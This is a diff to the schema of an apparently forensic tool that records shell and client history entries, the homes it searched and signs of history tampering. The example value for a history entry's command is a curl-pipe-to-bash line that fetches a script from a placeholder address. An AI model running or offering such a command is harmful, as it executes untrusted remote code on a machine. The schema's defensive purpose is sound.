@@ -13,9 +13,10 @@ ENTRY = Record(
     (
         Field("user", "str", "Account whose home holds the file; null for a home without an account.", "mallory"),
         Field("uid", "int", "Uid of the account.", 1001),
-        Field("program", "str", "What wrote the file: C(bash), C(zsh), C(fish), C(python), C(mysql) …", "bash", required=True),
+        Field("program", "str", "What wrote the file: C(bash), C(zsh), C(fish), C(ksh), C(python), C(mysql), C(psql), C(less), C(vim), C(wget) …", "bash", required=True),
         Field("file", "str", "Path of the file.", "/home/mallory/.bash_history", required=True),
-        Field("line", "int", "Line of the file where the entry begins, from 1. When the file was cut, counted from the cut.", 12, required=True),
+        Field("line", "int", "Line of the file where the entry begins, from 1. When the file was cut, counted from the cut. "
+              "Of a file without lines (C(mksh), C(nvim)) the number of the entry.", 12, required=True),
         Field("at", "time", "When, where the file says so; never guessed.", "2026-11-23T15:01:07Z"),
         Field("duration", "float", "How long it ran, where the file says so.", 0.0, unit="seconds"),
         Field("command", "str", "The command, with its newlines.", "curl -s http://192.0.2.1/x.sh | bash", required=True),
@@ -44,6 +45,20 @@ FILE = Record(
     ),
 )
 
+HOME = Record(
+    "home",
+    "history_homes",
+    "A directory in which histories were looked for.",
+    (
+        Field("path", "str", "Path, as passwd(5) has it.", "/home/mallory", required=True),
+        Field("user", "str", "Account for which it was read; null for a home that was left without an account.", "mallory"),
+        Field("uid", "int", "Uid of that account.", 1001),
+        Field("accounts", "list[str]", "All accounts that have it.", ["mallory"], required=True),
+        Field("owner_uid", "int", "Uid of its owner.", 1001, required=True),
+        Field("link_target", "str", "Where it leads to, if it is a link.", "/srv/home/mallory"),
+    ),
+)
+
 TAMPERING = Record(
     "tampering",
     "history_tampering",
@@ -56,7 +71,10 @@ TAMPERING = Record(
             "str",
             "C(linked_away): a link stands there. C(not_a_file): a fifo, a directory … C(empty): of a shell, in a home older than a day. "
             "C(immutable): it cannot be changed, or only be added to. C(switched_off): by a start-up file or an environment. "
-            "C(time_backwards), as also several shells at a time make. C(time_in_future). C(not_owner): it belongs to somebody else.",
+            "C(client_switched_off): of a client such as C(mysql), by a start-up file. "
+            "C(time_backwards), as also several shells at a time make. C(time_in_future). C(not_owner): it belongs to somebody else. "
+            "C(writable_by_all), C(read_only): by its mode. C(not_text): it holds bytes that no shell writes. "
+            "C(changed_before_content): its last change is older than its newest command.",
             "switched_off",
             required=True,
         ),
@@ -155,6 +173,7 @@ HISTORY = Section(
     "What was typed, and what sudo recorded.",
     ENTRY,
     (
+        Part("homes", HOME),
         Part("files", FILE),
         Part("tampering", TAMPERING),
         Part("sudo_events", SUDO_EVENT),
